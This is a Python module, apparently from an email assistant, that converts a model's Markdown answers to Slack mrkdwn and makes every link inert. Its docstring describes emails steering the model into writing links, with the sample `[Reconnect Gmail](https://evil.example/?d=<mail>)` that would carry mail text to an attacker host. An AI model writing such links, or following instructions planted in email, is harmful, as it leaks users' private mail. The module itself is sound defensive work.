"""Model output (Markdown) to Slack mrkdwn, cut into messages Slack accepts.

No link in an answer is ever live. The model writes what emails talk it into, so a
`[Reconnect Gmail](https://evil.example/?d=<mail>)` must not become a Slack link with a
trusted label, and a bare URL carrying mail text must not be fetched by an unfurl or a
click: every URL is shown as code (Slack neither links nor unfurls code), its host
named in front of it.
"""

from __future__ import annotations

import re
from urllib.parse import urlsplit

# Slack truncates a message's text at 40,000 characters and renders long ones poorly;
# answers are split at paragraph or line boundaries well below that.
MESSAGE_LIMIT = 3500

_LINK = re.compile(r"\[([^\]\n]+)\]\(\s*<?([a-z][a-z0-9+.-]*:[^)\s>]+)>?\s*\)", re.I)
# A URL the model wrote bare (Slack would link and unfurl it).
# A URL the model wrote bare, with a scheme, www., or a host and a path: Slack links
# (and would unfurl) each of these.
_BARE_URL = re.compile(r"\b[a-z][a-z0-9+.-]*://[^\s`]+|\bwww\.[^\s`]+|\b[\w-]+(?:\.[\w-]+)+/[^\s`]*", re.I)
_TRAILING = ".,;:!?"
_BOLD = re.compile(r"\*\*(.+?)\*\*|__(.+?)__")
_HEADING = re.compile(r"^#{1,6}\s+(.+?)\s*#*$", re.M)
_BULLET = re.compile(r"^(\s*)[-*+]\s+", re.M)


def to_mrkdwn(markdown: str) -> str:
    """Convert the Markdown a model writes into Slack's mrkdwn, leaving code alone."""
    parts = re.split(r"(```.*?```|`[^`\n]+`)", markdown, flags=re.S)
    out = []
    for i, part in enumerate(parts):
        if i % 2 == 1:  # code span or block
            out.append(part)
            continue
        part = part.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        part = inert_links(part)
        part = _HEADING.sub(lambda m: f"*{m.group(1)}*", part)
        part = _BOLD.sub(lambda m: f"*{m.group(1) or m.group(2)}*", part)
        part = _BULLET.sub(lambda m: f"{m.group(1)}• ", part)
        out.append(part)
    return "".join(out).strip()


def inert_links(text: str) -> str:
    """Masked and bare links to inert text that names where they point. For any mrkdwn
    that shows text from mail or the model (answers, and cards quoting a message body);
    `text` must already be mrkdwn-escaped (&, <, >)."""
    text = _LINK.sub(lambda m: f"{m.group(1)} ({_shown_url(m.group(2))})", text)
    # Bare URLs not already turned to code by the line above (those sit in backticks).
    pieces = re.split(r"(`[^`\n]*`)", text)
    return "".join(piece if i % 2 else _BARE_URL.sub(_bare, piece) for i, piece in enumerate(pieces))


def _bare(match: re.Match[str]) -> str:
    url = match.group(0)
    kept = url.rstrip(_TRAILING)  # sentence punctuation after a URL is not part of it
    return _shown_url(kept) + url[len(kept) :]


def _shown_url(url: str) -> str:
    host = urlsplit(url if "://" in url else f"//{url}").hostname or "unknown site"
    # Backticks cannot be escaped inside a Slack code span; drop them so the span holds.
    return f"link to {host}: `{url.replace('`', '')}`"


def split_message(text: str, limit: int = MESSAGE_LIMIT) -> list[str]:
    """Cut `text` into pieces of at most `limit` characters, preferring paragraph, then
    line, then word boundaries."""
    pieces: list[str] = []
    rest = text.strip()
    while len(rest) > limit:
        window = rest[:limit]
        cut = max(window.rfind("\n\n"), 0) or max(window.rfind("\n"), 0) or max(window.rfind(" "), 0) or limit
        if cut < limit // 2:  # no good boundary: cut at a space near the limit, or hard
            cut = window.rfind(" ") if window.rfind(" ") > limit // 2 else limit
        pieces.append(rest[:cut].rstrip())
        rest = rest[cut:].lstrip()
    if rest:
        pieces.append(rest)
    return pieces or [""]
